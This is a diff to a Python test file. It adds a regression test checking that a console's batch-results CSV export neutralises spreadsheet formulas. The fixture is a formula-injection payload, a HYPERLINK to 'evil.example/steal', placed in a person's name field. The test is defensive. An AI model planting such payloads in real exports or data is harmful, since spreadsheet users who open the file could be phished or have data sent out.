@@ -4,6 +4,9 @@ admin pages change is in the audit trail."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import httpx
 from sqlalchemy import text
 
@@ -12,9 +15,12 @@ from dex.config import Settings
 from dex.db.engine import Database
 from dex.providers.runtime import ProviderRuntime
 from tests.conftest import Tenant
-from tests.console.conftest import PASSWORD, add_super_admin, set_password
+from tests.console.conftest import PASSWORD, ConsoleServer, add_super_admin, set_password
 from tests.console.test_http import csrf_of
 from tests.tenancy.test_login_throttle import app_client
+
+HOSTILE = '=HYPERLINK("http://evil.example/steal","click")'
+VERIFY = [{"position": 1, "operation_id": "person.contact.verify_email"}]
 
 
 async def sign_in_form(client: httpx.AsyncClient, email: str, password: str) -> httpx.Response:
@@ -86,3 +92,35 @@ async def test_console_admin_changes_are_in_the_trail(
     (event,) = trail["data"]
     assert (event["actor_type"], event["actor_email"]) == ("super_admin", email)
     assert event["details"] == {"name": "Console Org", "slug": "console-org"}
+
+
+async def test_results_download_runs_no_formula(console: ConsoleServer) -> None:
+    blueprint = await console.blueprint("Verify", VERIFY, entity_type="person")
+    async with console.api() as api:
+        submitted = await api.post(
+            "/api/v1/batch/submit",
+            json={
+                "blueprint_id": blueprint,
+                "company_id": str(console.admin.tenant.company_id),
+                "entities": [
+                    {
+                        "entity_type": "person",
+                        "input": {"email": "ann@acme.io", "full_name": HOSTILE, "n": -5},
+                    }
+                ],
+            },
+        )
+    assert submitted.status_code == 200, submitted.text
+    await console.executor.wait_idle(60)
+    async with httpx.AsyncClient(base_url=console.url, timeout=30) as browser:
+        token = csrf_of(await browser.get("/console/login"))
+        signed = await browser.post(
+            "/console/login", data={"email": console.admin.email, "password": PASSWORD, "csrf_token": token}
+        )
+        assert signed.status_code == 303, signed.text
+        results = await browser.get(
+            f"/console/batches/{submitted.json()['data']['submission_id']}/results.csv"
+        )
+    assert results.status_code == 200 and results.headers["content-type"].startswith("text/csv")
+    (row,) = csv.DictReader(io.StringIO(results.text))
+    assert row["full_name"] == "'" + HOSTILE and row["n"] == "-5" and row["email"] == "ann@acme.io"
